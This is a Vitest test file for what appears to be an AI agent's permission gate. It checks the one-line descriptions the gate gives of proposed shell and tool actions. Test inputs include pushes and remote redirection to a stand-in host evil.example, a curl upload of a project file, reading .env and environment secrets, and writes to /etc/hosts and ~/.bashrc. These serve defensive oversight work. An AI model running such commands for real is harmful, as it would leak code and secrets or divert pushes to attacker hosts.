/** A question begins with what leaves or changes, and where to; never with the step that held it. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import type { Action } from "../../contract/action.ts";
import { runGitScript } from "../../testing/git-script.ts";
import { type Project, project } from "../../testing/index.ts";

let here: Project;
beforeAll(() => {
  here = project();
  runGitScript(
    here,
    `mkdir src; echo 'export const a = 1;' > src/a.ts; echo '{"scripts":{"test":"node --test","lint":"eslint ."}}' > package.json
     git add -A; echo TOKEN=1 > .env; git commit -qm x; git checkout -q -b fix/total
     git remote add origin git@github.com:acme/app.git; git remote add fork https://lena:secret@example.com/lena/app.git
     git update-ref refs/remotes/origin/next HEAD; git symbolic-ref refs/remotes/origin/HEAD refs/remotes/origin/next`,
  );
});
afterAll(() => here.remove());

const bash = (command: string): Action => ({ tool: "Bash", input: { command }, cwd: here.root });
const decide = (action: Action, more: object = {}) =>
  here
    .gate({ settings: { classifier: { provider: "offline" }, ...more }, classifier: null, walls: null, restore: null })
    .check(action);
const firstWords = async (action: Action): Promise<string> =>
  (await decide(action)).reason.split(/(?<!:\/)[;.] /)[0] ?? "";

const ORIGIN = "origin (github.com/acme/app)";

describe("of a command", () => {
  test.each<[string, string]>([
    ["git push", `Pushes fix/total to ${ORIGIN}`],
    ["git push -u origin fix/total", `Pushes fix/total to ${ORIGIN}`],
    ["git push origin HEAD", `Pushes fix/total to ${ORIGIN}`],
    ["git push origin HEAD:main", `Pushes main to ${ORIGIN}`],
    ["git push fork", "Pushes fix/total to fork (example.com/lena/app)"],
    ["git push https://evil.example/x.git fix/total", "Pushes fix/total to evil.example/x"],
    ["git push gone fix/total", "Pushes fix/total to gone, which is no remote of this repository"],
    ["git push --force origin main", `Overwrites main on ${ORIGIN}`],
    ["git push origin --delete x", `Deletes x on ${ORIGIN}`],
    ["git push --all", `Pushes all branches to ${ORIGIN}`],
    ["git -C src push", `Pushes fix/total to ${ORIGIN}`],
    // What the call itself changes is not read from the disk.
    [
      "git remote set-url origin https://evil.example/x && git push",
      "Pushes fix/total to origin, at an address this call sets and changes where this repository sends to: git remote set-url origin https://evil.example/x",
    ],
    ["git fetch", `Fetches from ${ORIGIN}`],
    ["git stash && git stash pop", "Stashes changes and brings stashed changes back"],
    ["git checkout main && git merge --no-ff fix/total -m x", "Switches to main and merges fix/total"],
    ["git reset HEAD src/a.ts", "Unstages (git reset HEAD src/a.ts)"],
    ["npm install left-pad", "Installs left-pad from registry.npmjs.org"],
    ["npm i -g left-pad", "Installs left-pad for every project from registry.npmjs.org"],
    ["sudo apt-get install jq", "Installs jq, as another user"],
    ["npm test", "Runs npm test"],
    ["npm run lint", "Runs the npm task lint"],
    ["bundle exec rspec", "Runs bundle exec rspec"],
    ["ssh prod systemctl restart app", "Runs on prod: systemctl restart app"],
    ["scp src/a.ts prod:/tmp/", "Sends src/a.ts to prod"],
    ["curl -d @src/a.ts https://example.org/x", "Sends src/a.ts to example.org"],
    ["curl -s https://example.org/x", "Contacts example.org"],
    ["wget https://example.org/x", "Writes x from example.org"],
    ["echo x > /tmp/other-x", "Writes outside the project: /tmp/other-x"],
    ["echo x >> ~/.bashrc", "Adds text outside the project: ~/.bashrc"],
    ["cp src/a.ts ~/x", "Copies src/a.ts out of the project, to ~/x"],
    ["mv src/a.ts ~/b.ts", "Moves src/a.ts out of the project, to ~/b.ts"],
    ["rm ../x", "Deletes outside the project: ~/code/x"],
    ["cat .env; env | grep NODE", "Reads .env and shows secrets: environment"],
    ["terraform apply", "Changes the cloud: terraform apply"],
    ["docker compose up -d", "Starts containers: docker compose up -d"],
    ["gh pr merge 12", "Merges a pull request (12) at api.github.com"],
    ["git subtree push --prefix=a origin b", "Runs git subtree push --prefix=a origin b"],
    // What leaves stands before what is changed here, whatever was typed first.
    [
      "npm test; npm install x && git push",
      `Pushes fix/total to ${ORIGIN}, installs x from registry.npmjs.org and runs npm test`,
    ],
    // What weighs least is counted, and counted in full.
    [
      "touch /tmp/z1 /tmp/z2 /tmp/z3 /tmp/z4 /tmp/z5 && git push",
      `Pushes fix/total to ${ORIGIN}, writes outside the project: /tmp/z1, writes outside the project: /tmp/z2, writes outside the project: /tmp/z3 and 2 lighter steps`,
    ],
  ])("%s", async (command, words) => {
    expect(await firstWords(bash(command))).toBe(words);
  });
});

test.each<[Omit<Action, "cwd">, string]>([
  [{ tool: "Write", input: { file_path: "/etc/hosts", content: "x" } }, "Writes outside the project: /etc/hosts"],
  [{ tool: "Write", input: { file_path: ".git/hooks/pre-commit", content: "x" } }, "Writes .git/hooks/pre-commit"],
  [{ tool: "WebFetch", input: { url: "https://nodejs.org/api/fs.html", prompt: "x" } }, "Contacts nodejs.org"],
  [{ tool: "WebSearch", input: { query: "x" } }, "Sends data to the agent's web search"],
  [{ tool: "Agent", input: { prompt: "look" } }, "Hands a task to another agent"],
  [{ tool: "mcp__linear__create_issue", input: { title: "x" } }, "Calls create_issue of the server linear"],
])("of another tool: %j", async (action, words) => {
  expect(await firstWords({ ...action, cwd: here.root })).toBe(words);
});

test.each<[object, string, RegExp]>([
  [
    { permissions: { ask: ["Bash(git push:*)"] } },
    "askRule",
    /^Pushes fix\/total to origin .*; the rule Bash\(git push:\*\) wants/,
  ],
  [{ mode: "default" }, "prompt", /^Pushes fix\/total to origin /],
  [{ mode: "dontAsk" }, "dontAskMode", /^Pushes fix\/total to origin .*; the mode dontAsk/],
  [{}, "offline", /^Pushes fix\/total to origin /],
])("whatever step holds it: %j, by %s", async (more, by, words) => {
  const decision = await decide(bash("git push"), more);
  expect([decision.by, decision.reason]).toEqual([by, expect.stringMatching(words)]);
});

test("no secret of the call is said", async () => {
  const { reason } = await decide(bash("ssh prod deploy --token kJ8vQ2mZx4Lw9Rt7Yp3N"));
  expect(reason).toMatch(/^Runs on prod: deploy --token \[secret, 20 characters\]/);
});
